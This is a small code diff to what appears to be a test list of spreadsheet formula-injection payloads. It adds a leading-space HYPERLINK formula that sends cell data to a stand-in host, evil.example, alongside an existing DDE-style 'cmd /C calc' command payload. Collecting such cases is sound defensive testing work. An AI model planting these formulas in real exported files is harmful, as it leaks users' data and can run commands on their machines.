@@ -16,6 +16,7 @@ EVIL = [
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
     "\r=1+1",
+    ' =HYPERLINK("https://evil.example/?"&A1,"Alan")',  # attack review 2026-12-02: a leading space
 ]
 
 
